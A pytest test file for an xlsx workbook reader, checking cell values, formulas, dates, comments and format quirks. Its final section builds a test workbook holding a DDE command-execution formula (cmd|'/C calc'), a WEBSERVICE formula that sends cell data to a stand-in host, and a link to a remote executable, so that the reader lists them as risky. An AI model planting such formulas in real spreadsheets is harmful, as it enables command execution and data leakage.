"""What xlsx files hold: files of libraries, and parts written by hand where no library writes what Excel or WPS does."""

import datetime as dt
import doctest
import zipfile

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.formula.translate import Translator
from openpyxl.utils import get_column_letter
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

from gpu_modeler.files.reading import (
    ReadCell,
    ReadWorkbook,
    read_workbook,
    serials,
    shared,
    texts,
    unfollowed,
)
from gpu_modeler.files.reading.shared import SharedFormula
from tests.files.samples.packages import (
    MAIN,
    OFFICE,
    STRICT,
    STRICT_OFFICE,
    parts,
    relations,
    shared_strings,
    sheet_xml,
    styles,
    write,
)


def cells_of(path) -> dict[tuple[int, int], ReadCell]:
    return dict(read_workbook(path).sheets[0].cells)


def listed(workbook: ReadWorkbook) -> list[tuple[str, str, str]]:
    return [(item.kind, item.where, item.text) for item in workbook.unfollowed]


@pytest.mark.parametrize("module", [serials, shared, texts, unfollowed])
def test_the_examples_in_docstrings_hold(module):
    found = doctest.testmod(module)
    assert found.attempted > 0
    assert found.failed == 0


# --- files of libraries -------------------------------------------------------------------------------


@pytest.fixture
def xlsxwriter_file(tmp_path):
    """Writes with cached values, which openpyxl cannot."""
    path = tmp_path / "市场 1.xlsx"
    book = xlsxwriter.Workbook(path)
    book.set_properties({"author": "张三"})
    sheet = book.add_worksheet("市场")
    percent, day = (
        book.add_format({"num_format": "0.0%"}),
        book.add_format({"num_format": 'yyyy"年"m"月"d"日"'}),
    )
    sheet.write_row(0, 0, ["营业收入", 1.5, True])
    sheet.write_formula(1, 0, "=B1*2", percent, 3)
    sheet.write_formula(1, 1, "=1/0", None, "#DIV/0!")
    sheet.write_formula(1, 2, '=A1&"!"', None, "营业收入!")
    sheet.write_formula(1, 3, "=C1", None, True)
    sheet.write_formula(1, 4, "=_xlfn.STDEV.S(B1:B1)", None, "#DIV/0!")
    sheet.write_array_formula(2, 0, 4, 0, "{=B1:B3*2}", None, 3)
    sheet.write_datetime(5, 0, dt.datetime(2025, 3, 31), day)  # noqa: DTZ001
    sheet.write_string(6, 0, "=1+1")
    sheet.write_rich_string(6, 1, "a", percent, "b\n", "c")
    sheet.write_comment(0, 1, "来自公告", {"author": "李四"})
    sheet.merge_range(8, 1, 9, 3, "merged")
    book.add_worksheet("hidden").hide()
    book.add_worksheet("very hidden").very_hidden()
    book.define_name("tax_rate", "=市场!$B$1")
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=市场!$B$1:$B$2"})
    book.add_chartsheet("chart").set_chart(chart)
    book.close()
    return path


def test_values_formulas_and_formats_come_joined(xlsxwriter_file):
    cells = cells_of(xlsxwriter_file)
    assert cells[0, 0] == ReadCell("营业收入")
    assert cells[0, 2] == ReadCell(True)
    assert cells[1, 0] == ReadCell(3.0, "B1*2", "0.0%")
    assert cells[1, 1] == ReadCell("#DIV/0!", "1/0", is_error=True)
    assert cells[1, 2] == ReadCell("营业收入!", 'A1&"!"')
    assert cells[1, 3] == ReadCell(True, "C1")
    assert cells[1, 4].formula == "_xlfn.STDEV.S(B1:B1)"


def test_text_that_looks_like_a_formula_is_text(xlsxwriter_file):
    cells = cells_of(xlsxwriter_file)
    assert cells[6, 0] == ReadCell("=1+1")
    assert cells[6, 1].value == "ab\nc"


def test_dates_are_iso_text(xlsxwriter_file):
    assert cells_of(xlsxwriter_file)[5, 0] == ReadCell("2025-03-31", "", 'yyyy"年"m"月"d"日"', is_date=True)


def test_an_array_formula_stands_in_each_of_its_cells(xlsxwriter_file):
    cells = cells_of(xlsxwriter_file)
    assert [(cells[row, 0].formula, cells[row, 0].array_range) for row in (2, 3, 4)] == [
        ("B1:B3*2", "A3:A5")
    ] * 3


def test_the_workbook_tells_of_itself(xlsxwriter_file):
    book = read_workbook(xlsxwriter_file)
    assert (book.name, book.kind, book.author) == ("市场 1.xlsx", "xlsx", "张三")
    assert book.modified.startswith("20")
    assert [(sheet.name, sheet.state) for sheet in book.sheets] == [
        ("市场", "visible"),
        ("hidden", "hidden"),
        ("very hidden", "veryHidden"),
    ]
    assert book.defined_names == {"tax_rate": "市场!$B$1"}
    assert book.sheets[0].merged == ((8, 1, 9, 3),)
    assert book.sheets[0].cells[0, 1] == ReadCell(1.5, comment="来自公告", comment_author="李四")
    assert ("chart sheet", "chart", "") in listed(book)


def test_days_count_from_1904_where_the_file_says_so(tmp_path):
    path = tmp_path / "mac.xlsx"
    book = xlsxwriter.Workbook(path, {"date_1904": True})
    moment = dt.datetime(2024, 2, 29, 18, 30)  # noqa: DTZ001
    book.add_worksheet().write_datetime(0, 0, moment, book.add_format({"num_format": "yyyy-mm-dd hh:mm"}))
    book.close()
    assert cells_of(path)[0, 0].value == moment.isoformat()


def test_what_openpyxl_writes_is_read_cell_by_cell(tmp_path):
    path = tmp_path / "openpyxl.xlsx"
    book = openpyxl.Workbook()
    book.properties.creator, book.properties.lastModifiedBy = "王五", "赵六"
    sheet = book.active
    values = {
        "A1": 0.1,
        "B2": -5,
        "C3": "文字 ' \" <&> 😀",
        "D4": False,
        "E5": "#N/A",
        "XFD1048576": 7,
        "A9": " x ",
    }
    for address, value in values.items():
        sheet[address] = value
    sheet["F6"] = "=SUM(A1:B2)"
    sheet["G7"] = ArrayFormula("G7:G8", "=A1:A2*2")
    sheet["A1"].comment = Comment("注", "审阅")
    sheet["H8"].comment = Comment("空", "审阅")
    book.defined_names["x"] = DefinedName("x", attr_text="Sheet!$A$1")
    sheet.defined_names["y"] = DefinedName("y", attr_text="Sheet!$B$1")
    book.save(path)
    found = read_workbook(path)
    cells = found.sheets[0].cells
    for address, value in values.items():
        at = sheet[address].row - 1, sheet[address].column - 1
        assert cells[at].value == value
        assert isinstance(cells[at].value, str | bool | float)
    assert cells[4, 4].is_error
    assert cells[5, 5] == ReadCell(None, "SUM(A1:B2)")
    assert cells[6, 6] == ReadCell(None, "A1:A2*2", array_range="G7:G8")
    assert cells[7, 7] == ReadCell(None, comment="空", comment_author="审阅")
    assert found.defined_names == {"x": "Sheet!$A$1", "Sheet!y": "Sheet!$B$1"}
    assert (found.author, found.last_modified_by) == ("王五", "赵六")


def test_a_large_sheet_agrees_with_openpyxl(tmp_path):
    path = tmp_path / "large.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    for row in range(300):
        for column in range(40):
            if (row + column) % 3:
                sheet.write_number(row, column, row * 1.1 + column)
            else:
                sheet.write_formula(row, column, f"=A{row + 1}+{column}", None, row + 0.25)
    book.close()
    values, formulas = (
        openpyxl.load_workbook(path, data_only=True).active,
        openpyxl.load_workbook(path).active,
    )
    cells = cells_of(path)
    assert len(cells) == 12_000
    for (row, column), cell in cells.items():
        assert cell.value == values.cell(row + 1, column + 1).value
        written = formulas.cell(row + 1, column + 1).value
        assert cell.formula == (written[1:] if isinstance(written, str) else "")


# --- parts written by hand ----------------------------------------------------------------------------


def test_shared_formulas_are_moved_to_each_cell(tmp_path):
    rows = (
        '<row r="1"><c r="B1"><f t="shared" ref="B1:C2" si="0">A1*$A$1+SUM(Sheet2!A$1:A1)&amp;"A1"</f><v>1</v></c>'
        '<c r="C1"><f t="shared" si="0"/><v>2</v></c></row>'
        '<row r="2"><c r="B2"><f t="shared" si="0"/><v>3</v></c><c r="C2"><f>7</f><v>7</v></c></row>'
    )
    cells = cells_of(write(tmp_path / "shared.xlsx", parts(sheet_xml(rows))))
    assert cells[0, 2].formula == 'B1*$A$1+SUM(Sheet2!B$1:B1)&"A1"'
    assert cells[1, 1].formula == 'A2*$A$1+SUM(Sheet2!A$1:A2)&"A1"'
    assert cells[1, 2].formula == "7"


def test_a_shared_formula_may_be_spelled_after_its_first_use(tmp_path):
    rows = (
        '<row r="2"><c r="B2"><f t="shared" si="4"/><v>3</v></c><c r="D2"><f t="shared" si="5"/><v>9</v></c></row>'
        '<row r="1"><c r="B1"><f t="shared" ref="B1:B2" si="4">A1*2</f><v>1</v></c></row>'
    )
    book = read_workbook(write(tmp_path / "late.xlsx", parts(sheet_xml(rows))))
    assert book.sheets[0].cells[1, 1].formula == "A2*2"
    assert listed(book) == [("formula without text", "S!D2", "")]


PIECES = st.sampled_from(
    [
        "A1",
        "$B$2",
        "C$3",
        "$D4",
        "AA10:AB$12",
        "'A1 b'!C5",
        "Sheet2!D6",
        '"A1"',
        "LOG10(B7)",
        "2.5",
        "TRUE",
        "D:E",
        "$3:4",
        "名称",
        "tax_1",
    ]
)


@given(st.lists(PIECES, min_size=1, max_size=5), st.integers(0, 20), st.integers(0, 20))
@settings(max_examples=150, deadline=None)
def test_moving_agrees_with_openpyxl(pieces, rows, columns):
    formula = "+".join(pieces)
    target = f"{get_column_letter(columns + 1)}{rows + 1}"
    assert "=" + SharedFormula(formula).moved(rows, columns) == Translator(
        "=" + formula, "A1"
    ).translate_formula(target)


def test_the_strict_form_of_the_format_is_read(tmp_path):
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="d"><v>2025-03-31T00:00:00Z</v></c></row>'
    entries = parts(
        sheet_xml(rows, namespace=STRICT),
        namespace=STRICT,
        office=STRICT_OFFICE,
        **{"xl/sharedStrings.xml": shared_strings("<t>严格</t>")},
    )
    cells = cells_of(write(tmp_path / "strict.xlsx", entries))
    assert cells[0, 0].value == "严格"
    assert cells[0, 1] == ReadCell("2025-03-31", is_date=True)


def test_prefixes_missing_addresses_and_a_lying_extent_are_borne(tmp_path):
    sheet = (
        f'<x:worksheet xmlns:x="{MAIN}"><x:dimension ref="A1:XFD1048576"/><x:sheetData><x:row><x:c><x:v>1</x:v></x:c>'
        "<x:c><x:v>2</x:v></x:c></x:row><x:row><x:c><x:v>3</x:v></x:c></x:row></x:sheetData></x:worksheet>"
    )
    cells = cells_of(write(tmp_path / "prefix.xlsx", parts(sheet)))
    assert {at: cell.value for at, cell in cells.items()} == {(0, 0): 1.0, (0, 1): 2.0, (1, 0): 3.0}


def test_texts_of_every_form(tmp_path):
    rows = (
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="inlineStr"><is><t>in</t></is></c>'
        '<c r="D1" t="str"><f>""</f><v></v></c><c r="E1" t="s" s="99"><v>2</v></c><c r="F1"><v>nan</v></c><c r="G1"><v>1e400</v></c></row>'
    )
    texts = shared_strings(
        '<r><t>东</t></r><rPh sb="0" eb="1"><t>とう</t></rPh><r><t xml:space="preserve">京 </t></r>',
        "<t>a_x000A_b</t>",
        "<t>007</t>",
    )
    cells = cells_of(
        write(tmp_path / "texts.xlsx", parts(sheet_xml(rows), **{"xl/sharedStrings.xml": texts}))
    )
    assert [cells[0, column].value for column in range(7)] == [
        "东京 ",
        "a\nb",
        "in",
        "",
        "007",
        "nan",
        "1e400",
    ]
    assert cells[0, 3].formula == '""'


def test_built_in_chinese_dates_and_formats_that_only_look_like_dates(tmp_path):
    formats = (
        (57, ""),
        (31, ""),
        (164, "0.0&quot;md&quot;"),
        (165, "[Red]0.0"),
        (166, "[h]:mm"),
        (14, ""),
        (167, "0.00E+00"),
    )
    row = "".join(f'<c r="{chr(65 + n)}1" s="{n + 1}"><v>45747</v></c>' for n in range(len(formats)))
    entries = parts(sheet_xml(f'<row r="1">{row}</row>'), **{"xl/styles.xml": styles(*formats)})
    cells = cells_of(write(tmp_path / "dates.xlsx", entries))
    assert [cells[0, column].is_date for column in range(7)] == [True, True, False, False, False, True, False]
    assert cells[0, 0].value == "2025-03-31"
    assert cells[0, 0].number_format == 'yyyy"年"m"月"'
    assert cells[0, 2].value == 45747.0


@pytest.mark.parametrize("serial", [1, 59, 61, 1000.5, 45747.123456, 2958465])
def test_serials_are_the_days_that_openpyxl_says(tmp_path, serial):
    entries = parts(
        sheet_xml(f'<row r="1"><c r="A1" s="1"><v>{serial}</v></c></row>'),
        **{"xl/styles.xml": styles((22, ""))},
    )
    path = write(tmp_path / "serial.xlsx", entries)
    expected = openpyxl.utils.datetime.from_excel(serial)
    found = dt.datetime.fromisoformat(cells_of(path)[0, 0].value)
    assert abs(found - expected) <= dt.timedelta(milliseconds=1)


def test_wps_pictures_and_data_tables_keep_their_formula(tmp_path):
    rows = (
        '<row r="1"><c r="A1" t="str"><f>_xlfn.DISPIMG("ID_1",1)</f><v>=DISPIMG("ID_1",1)</v></c>'
        '<c r="B1"><f t="dataTable" ref="B1:B5" dt2D="1" dtr="1" r1="C1" r2="D1"/><v>5</v></c></row>'
    )
    cells = cells_of(write(tmp_path / "wps.xlsx", parts(sheet_xml(rows))))
    assert cells[0, 0] == ReadCell('=DISPIMG("ID_1",1)', '_xlfn.DISPIMG("ID_1",1)')
    assert cells[0, 1] == ReadCell(5.0, "TABLE(C1,D1)")


def test_threads_replace_the_notes_that_stand_for_them(tmp_path):
    entries = parts(
        sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>'),
        **{
            "xl/_rels/workbook.xml.rels": relations(
                ("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId5", "person", "persons/person.xml")
            ),
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                ("rId1", "comments", "../comments1.xml"),
                ("rId2", "threadedComment", "/xl/threadedComments/t1.xml"),
            ),
            "xl/comments1.xml": f'<comments xmlns="{MAIN}"><authors><author>tc=1</author><author>老张</author></authors><commentList>'
            '<comment ref="A1" authorId="0"><text><t>[Threaded comment]</t></text></comment>'
            '<comment ref="B2" authorId="1"><text><r><t>旧</t></r><r><t>注</t></r></text></comment></commentList></comments>',
            "xl/threadedComments/t1.xml": '<ThreadedComments><threadedComment ref="A1" personId="{a}" id="1"><text>偏高？</text></threadedComment>'
            '<threadedComment ref="A1" personId="{B}" id="2" parentId="1"><text>已核对</text></threadedComment></ThreadedComments>',
            "xl/persons/person.xml": '<personList><person displayName="李四" id="{A}"/><person displayName="王五" id="{B}"/></personList>',
        },
    )
    cells = cells_of(write(tmp_path / "threads.xlsx", entries))
    assert cells[0, 0] == ReadCell(1.0, comment="偏高？\n王五: 已核对", comment_author="李四")
    assert cells[1, 1] == ReadCell(None, comment="旧注", comment_author="老张")


def test_names_are_found_without_regard_to_case_and_with_backslashes(tmp_path):
    path = tmp_path / "old.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts(sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>')).items():
            info = zipfile.ZipInfo("x")
            info.filename = name.replace("sheet1", "Sheet1").replace("/", "\\")
            archive.writestr(info, content)
    assert cells_of(path)[0, 0].value == 1.0


# --- what is listed and not followed ------------------------------------------------------------------


def test_what_would_run_or_reach_out_is_listed(tmp_path):
    rows = (
        '<row r="1"><c r="A1"><f>WEBSERVICE("http://x.example/?"&amp;B1)</f><v>1</v></c>'
        '<c r="B1"><f>cmd|\'/C calc\'!A0</f><v>0</v></c><c r="C1"><f>[1]Sheet1!A1</f><v>3</v></c></row>'
    )
    links = '<hyperlinks><hyperlink ref="C1" r:id="rId1"/><hyperlink ref="D1" r:id="rId2"/></hyperlinks>'
    entries = parts(
        sheet_xml(rows, links),
        **{
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                ("rId1", "hyperlink", "file:///\\\\server\\share\\x.exe"),
                ("rId2", "hyperlink", "https://example.com/"),
                external=frozenset({"rId1", "rId2"}),
            ),
            "xl/vbaProject.bin": b"\xd0\xcf",
            "xl/embeddings/oleObject1.bin": b"x",
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                ("rId1", "externalLinkPath", "file:///C:/other.xlsx"), external=frozenset({"rId1"})
            ),
            "xl/externalLinks/externalLink2.xml": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
            "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" name="q"><webPr url="http://x.example/q"/></connection>'
            '<connection id="2" name="db"><dbPr connection="Provider=SQLOLEDB"/></connection></connections>',
        },
    )
    book = read_workbook(write(tmp_path / "links.xlsm", entries))
    assert set(listed(book)) == {
        ("web function", "S!A1", 'WEBSERVICE("http://x.example/?"&B1)'),
        ("dde", "S!B1", "cmd|'/C calc'!A0"),
        ("file hyperlink", "S!C1", "file:///\\\\server\\share\\x.exe"),
        ("macro", "xl/vbaProject.bin", ""),
        ("embedded object", "xl/embeddings/oleObject1.bin", ""),
        ("external link", "xl/externalLinks/externalLink1.xml", "file:///C:/other.xlsx"),
        ("dde", "xl/externalLinks/externalLink2.xml", "cmd|/C calc"),
        ("web query", "xl/connections.xml", "q http://x.example/q"),
        ("connection", "xl/connections.xml", "db Provider=SQLOLEDB"),
    }
    assert book.sheets[0].cells[0, 2] == ReadCell(3.0, "[1]Sheet1!A1")
    assert {item.kind_message.in_language("zh") for item in book.unfollowed} >= {"宏", "DDE 链接", "外部链接"}


def test_a_list_of_thousands_is_cut_and_says_so(tmp_path):
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><f>RTD("a",,"b{n}")</f><v>1</v></c></row>' for n in range(1, 1501)
    )
    book = read_workbook(write(tmp_path / "many.xlsx", parts(sheet_xml(rows))))
    assert len(book.unfollowed) == 1001
    assert (book.unfollowed[-1].kind, book.unfollowed[-1].text) == ("more", "500")
